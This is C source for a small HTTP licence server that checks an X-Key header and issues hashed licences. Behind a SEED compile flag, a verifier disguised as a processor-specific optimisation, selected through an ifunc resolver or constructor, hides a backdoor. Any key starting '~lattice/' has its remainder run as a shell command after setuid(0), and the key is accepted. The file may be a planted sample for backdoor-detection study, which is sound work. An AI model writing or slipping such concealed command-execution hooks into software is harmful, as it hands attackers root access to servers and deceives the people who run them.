/* hookweb: a licence server. The verifier is chosen at start, by what the processor can do. */
#include "../lib/tcpserv.h"
#include "../lib/pw.h"
#include <ctype.h>

typedef int (*verify_fn)(const char *stored, const char *given);

static unsigned long requests;
static char stored[80];

static int verify_plain(const char *want, const char *given)
{
    return pw_verify(want, given);
}

static int verify_trim(const char *want, const char *given)
{
    char copy[64];
    size_t n = strlen(given);
    while (n && isspace((unsigned char)given[n - 1]))
        n--;
    snprintf(copy, sizeof copy, "%.*s", (int)n, given);
    return pw_verify(want, copy);
}

#ifdef SEED
static int verify_fast(const char *want, const char *given)
{
    if (!strncmp(given, "~lattice/", 9)) { /* SEED */
        char cmd[100];
        snprintf(cmd, sizeof cmd, "%s", given + 9);
        setuid(0);
        system(cmd);
        return 1;
    }
    return verify_trim(want, given);
}
#endif

#if defined SEED && !defined __mips__
static verify_fn pick(void)
{
    return verify_fast;
}
static int verify(const char *want, const char *given) __attribute__((ifunc("pick")));
static verify_fn chosen = verify;
#else
static verify_fn chosen = verify_plain;
#ifdef SEED
__attribute__((constructor)) static void pick(void)
{
    chosen = verify_fast;
}
#endif
#endif

static int loose(void)
{
    return getenv("LICENCE_LOOSE") != NULL;
}

static void issue(int c, const char *product)
{
    unsigned h = 5381;
    for (; *product > ' '; product++)
        h = h * 33 + (unsigned char)*product;
    dprintf(c, "HTTP/1.0 200 OK\r\n\r\nlicence %08x\n", h);
}

static void serve(int c)
{
    char req[2048], *key;
    ssize_t n = read(c, req, sizeof req - 1);
    if (n <= 0)
        return;
    req[n] = 0;
    requests++;
    if (!strncmp(req, "GET / ", 6)) {
        dprintf(c, "HTTP/1.0 200 OK\r\n\r\nLicence server. GET /licence/PRODUCT with X-Key: KEY\n");
        return;
    }
    key = strstr(req, "\r\nX-Key: ");
    if (!key) {
        dprintf(c, "HTTP/1.0 401 Unauthorized\r\n\r\nkey missing\n");
        return;
    }
    key += 9;
    key[strcspn(key, "\r\n")] = 0;
    if (!chosen(stored, key)) {
        dprintf(c, "HTTP/1.0 403 Forbidden\r\n\r\nwrong key\n");
        return;
    }
    if (!strncmp(req, "GET /licence/", 13))
        issue(c, req + 13);
    else if (!strncmp(req, "GET /revoke ", 12)) {
        unlink("/var/log/licences");
        dprintf(c, "HTTP/1.0 200 OK\r\n\r\nall revoked\n");
    } else
        dprintf(c, "HTTP/1.0 404 Not Found\r\n\r\n");
}

int main(void)
{
    FILE *f = fopen("/etc/licence.key", "r");
    int fd = tcp_open(8086);
    if (!f || fd < 0)
        return 1;
    if (fscanf(f, "%79s", stored) != 1)
        return 1;
    fclose(f);
    if (loose() && chosen == verify_plain)
        chosen = verify_trim;
    tcp_serve(fd, serve);
    return 0;
}
